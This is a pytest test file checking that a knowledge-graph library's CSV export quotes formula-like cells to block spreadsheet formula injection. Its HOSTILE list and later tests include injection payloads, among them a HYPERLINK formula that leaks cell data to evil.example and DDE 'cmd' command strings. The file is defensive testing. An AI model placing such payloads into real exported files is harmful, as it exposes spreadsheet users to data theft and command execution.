"""CSV exports never hand a spreadsheet a formula taken from article text (OWASP CSV injection)."""
from __future__ import annotations

import csv

import pytest
from hypothesis import given, settings, strategies as st

from graphkit.export.tables import csv_cell, write_csv
from graphkit.graph import KnowledgeGraph
from test_rdf_sample import sample_graph

HOSTILE = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]
# Text a spreadsheet shows as it is: left alone.
HARMLESS = ["Ruritania", "'=already quoted", " =1+1", "a=b", "-1", "+2.5", "-0.75", "1e-3", "-.5",
            "", "Zenda-on-Sea"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def read_rows(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def hostile_graph(label: str, evidence: str):
    g = sample_graph()
    g.nodes["gpe:zenda"]["label"] = label
    g.nodes["gpe:zenda"]["aliases"] = [label]
    edge = next(d for *_, k, d in g.edges(keys=True, data=True) if k == "s-acc")
    edge["evidence"] = evidence
    edge["trigger"] = label
    return g


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_plain_numbers_are_unchanged(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("value, cell", [(-1, "-1"), (-0.5, "-0.5"), (True, "true"), (None, "")])
def test_numbers_and_flags_keep_their_form(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("text", HOSTILE)
def test_written_tables_neutralise_hostile_names_and_evidence(tmp_path, text):
    nodes_path, edges_path = write_csv(hostile_graph(text, text), tmp_path)
    zenda = next(r for r in read_rows(nodes_path) if r["id"] == "gpe:zenda")
    accusation = next(r for r in read_rows(edges_path) if r["id"] == "s-acc")
    assert zenda["label"] == accusation["evidence"] == accusation["trigger"] == "'" + text
    assert zenda["aliases"].startswith("[")  # a list is JSON: it starts with [, no formula


def test_a_hostile_attribute_name_is_neutralised_in_the_header(tmp_path):
    g = sample_graph()
    g.nodes["gpe:zenda"]["=cmd|' /C calc'!A0"] = "x"
    nodes_path, _ = write_csv(g, tmp_path)
    header = nodes_path.read_text(encoding="utf-8").splitlines()[0]
    assert header.endswith(",'=cmd|' /C calc'!A0")


def test_the_dataframes_keep_the_text_as_it_is(tmp_path):
    text = "=HYPERLINK(\"http://evil.example\")"
    kg = KnowledgeGraph(hostile_graph(text, text))
    kg.write(tmp_path, formats=["csv"])
    assert text in kg.entities()["label"].tolist()
    assert kg.relations().set_index("id").loc["s-acc", "evidence"] == text
    assert kg.graph.nodes["gpe:zenda"]["label"] == text


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r'aZ1.e \",\n;|!"), max_size=12))
def test_no_cell_is_read_as_a_formula(text):
    """Whatever the text, the written cell is a plain number or does not start a formula,
    and dropping the added quote gives the text back."""
    import tempfile

    with tempfile.TemporaryDirectory() as out:
        nodes_path, edges_path = write_csv(hostile_graph(text, text), out)
        cells = [c for path in (nodes_path, edges_path) for row in read_rows(path)
                 for c in row.values()]
        zenda = next(r for r in read_rows(nodes_path) if r["id"] == "gpe:zenda")
    for cell in cells:
        assert not cell.startswith(FORMULA_START) or float(cell) == float(cell), cell
    written = zenda["label"]
    assert written == text or (written == "'" + text and text.startswith(FORMULA_START))


@pytest.mark.parametrize("evidence", ["Talks ended.\rThey left.", "Talks ended.\r\nThey left.",
                                      "Talks ended.\nThey left."])
def test_a_line_break_inside_a_cell_stays_in_its_row(tmp_path, evidence):
    _, edges_path = write_csv(hostile_graph("Zenda", evidence), tmp_path)
    rows = read_rows(edges_path)
    assert len(rows) == sample_graph().number_of_edges()
    assert next(r for r in rows if r["id"] == "s-acc")["evidence"] == evidence
